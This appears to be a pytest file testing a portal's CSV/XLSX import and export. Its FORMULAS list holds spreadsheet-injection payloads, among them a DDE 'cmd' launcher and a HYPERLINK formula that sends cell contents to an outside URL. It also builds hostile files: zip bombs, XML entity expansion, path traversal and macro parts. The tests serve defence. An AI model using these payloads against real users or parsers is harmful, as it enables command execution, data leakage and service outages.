"""Tables in and out: what is read, what is refused at once, and what no spreadsheet program computes."""

import csv
import io
import time
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from metadata_portal.foundation.sheets import apart
from metadata_portal.foundation.sheets.cells import as_meant, neutral
from metadata_portal.foundation.sheets.checks import BadFile, check_file
from metadata_portal.foundation.sheets.reading import read_table
from metadata_portal.foundation.sheets.writing import csv_lines, workbook

ROWS = [["name", "note"], ["C57BL/6J", "black, “six”\nsecond line"], ["Żółć", ""]]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "\uff1d1+1",
    "-2.5.1",
    '=HYPERLINK("http://example.org?"&A1,"x")',
]
PLAIN = ["-2.5", "+3", "-1e-3", "12%", "-2,7", "a=b", "x@y.org", "'quoted'", "", "0"]


def packed(parts, compression=zipfile.ZIP_DEFLATED):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


def sheet(rows=ROWS, **changed):
    """A small workbook, with parts changed, added or (None) left out."""
    with zipfile.ZipFile(io.BytesIO(workbook("Terms", rows))) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts |= changed
    return packed({name: content for name, content in parts.items() if content is not None})


def of_csv(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("content", ["".join(csv_lines(ROWS)).encode(), sheet()], ids=["csv", "xlsx"])
def test_what_is_written_is_read_again(content):
    table = read_table(content)
    assert table.columns == ["name", "note"]
    assert table.rows == [(2, ["C57BL/6J", "black, “six”\nsecond line"]), (3, ["Żółć", ""])]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_computed_by_a_spreadsheet_and_every_one_comes_back(text):
    cell = of_csv("".join(csv_lines([[text]])))[0][0]
    assert cell == f"'{text}"
    assert as_meant(cell) == text
    [[shown]] = load_workbook(io.BytesIO(workbook("T", [[text]]))).worksheets[0].iter_rows()
    assert shown.data_type == "s"
    assert read_table("".join(csv_lines([["a"], [text]])).encode()).rows[0][1] == [text]


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_harmless_text_stay_as_they_are(text):
    assert neutral(text) == text
    assert as_meant(text) == text


@pytest.mark.parametrize(
    "content",
    [
        b"name;note\nC57BL/6J;x,y",
        "name\tnote\r\nC57BL/6J\tx,y".encode("utf-16"),
        '\ufeff\n\n"name","note"\n\n"C57BL/6J","x,y"\n,\n'.encode(),
    ],
    ids=["semicolons", "tabs in UTF-16", "blank lines"],
)
def test_files_of_other_programs_are_read(content):
    table = read_table(content)
    assert (table.columns, [cells for _, cells in table.rows]) == (["name", "note"], [["C57BL/6J", "x,y"]])


def test_cells_of_a_workbook_read_as_somebody_would_type_them():
    book = Workbook()
    book.active.append(["a", "b", "c", "d", "e", "f"])
    book.active.append([12.0, -2.5, date(2026, 3, 1), datetime(2026, 3, 1, 9, 30), True, None])  # noqa: DTZ001 - cells have none
    held = io.BytesIO()
    book.save(held)
    assert read_table(held.getvalue()).rows == [(2, ["12", "-2.5", "2026-03-01", "2026-03-01 09:30:00", "true"])]


DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;">]><workbook>&b;</workbook>'
BOMBS = {
    "six megabytes": lambda: b"a,b\n" * 1_500_001,
    "zip of zeros": lambda: sheet(**{"xl/worksheets/sheet1.xml": b"<a>" + b"\0" * 40_000_000}),
    "a million rows": lambda: sheet(**{"xl/worksheets/sheet1.xml": b"<sheetData>" + b'<row r="1"/>' * 1_000_000}),
    "too many parts": lambda: packed({f"{number}.xml": b"" for number in range(1_200)}, zipfile.ZIP_STORED),
    "zip in a zip": lambda: sheet(**{"xl/media/inner.zip": packed({"a": b"0"})}),
    "entities": lambda: sheet(**{"xl/workbook.xml": DTD}),
    "entities in another encoding": lambda: sheet(**{"xl/workbook.xml": DTD.decode().encode("utf-16")}),
    "entities behind a long comment": lambda: sheet(**{"xl/workbook.xml": b"<!--" + b"x" * 9000 + b"-->" + DTD[21:]}),
    "macros": lambda: sheet(**{"xl/vbaProject.bin": b"x"}),
    "links": lambda: sheet(**{"xl/externalLinks/externalLink1.xml": b"<a/>"}),
    "connections": lambda: sheet(**{"xl/connections.xml": b"<a/>"}),
    "names that climb": lambda: sheet(**{"../evil.xml": b"<a/>"}),
    "old Excel": lambda: b"\xd0\xcf\x11\xe0" + b"x" * 100,
    "cut short": lambda: sheet()[:-30],
    "another zip": lambda: packed({"a.txt": b"x"}),
    "nothing": lambda: b"  ",
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_before_it_is_read(name):
    content = BOMBS[name]()
    began = time.process_time()
    with pytest.raises(BadFile) as refusal:
        check_file(content)
    assert time.process_time() - began < 1
    assert refusal.value.message.endswith(".")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"a\n" + b"1\n" * 20_001, "more than 20,000 rows"),
        (b"a\n" + b",".join([b"1"] * 101), "101 columns"),
        (b"a\n" + b"x" * 10_001, "10,001 characters"),
        ("name\nZürich".encode("latin-1"), "no UTF-8"),
        (b'a\n"x', "Line 2 is no row"),
        (b",,\n,", "no rows"),
    ],
    ids=["rows", "columns", "cell", "encoding", "quotes", "empty"],
)
def test_what_cannot_be_read_says_why(content, said):
    with pytest.raises(BadFile, match=said):
        read_table(content)


def test_a_broken_workbook_is_refused_with_words():
    with pytest.raises(BadFile, match="cannot be read"):
        read_table(sheet(**{"xl/workbook.xml": b"<workbook>"}))


def test_a_file_is_read_in_a_process_of_its_own_with_little_memory(monkeypatch):
    assert apart.read_apart(sheet()).rows[0] == (2, ["C57BL/6J", "black, “six”\nsecond line"])
    with pytest.raises(BadFile, match="more than 20,000 rows"):
        apart.read_apart(b"a\n" + b"1\n" * 20_001)
    monkeypatch.setattr(apart, "MEMORY", 10_000_000)
    with pytest.raises(BadFile, match="memory"):
        apart.read_apart(sheet())
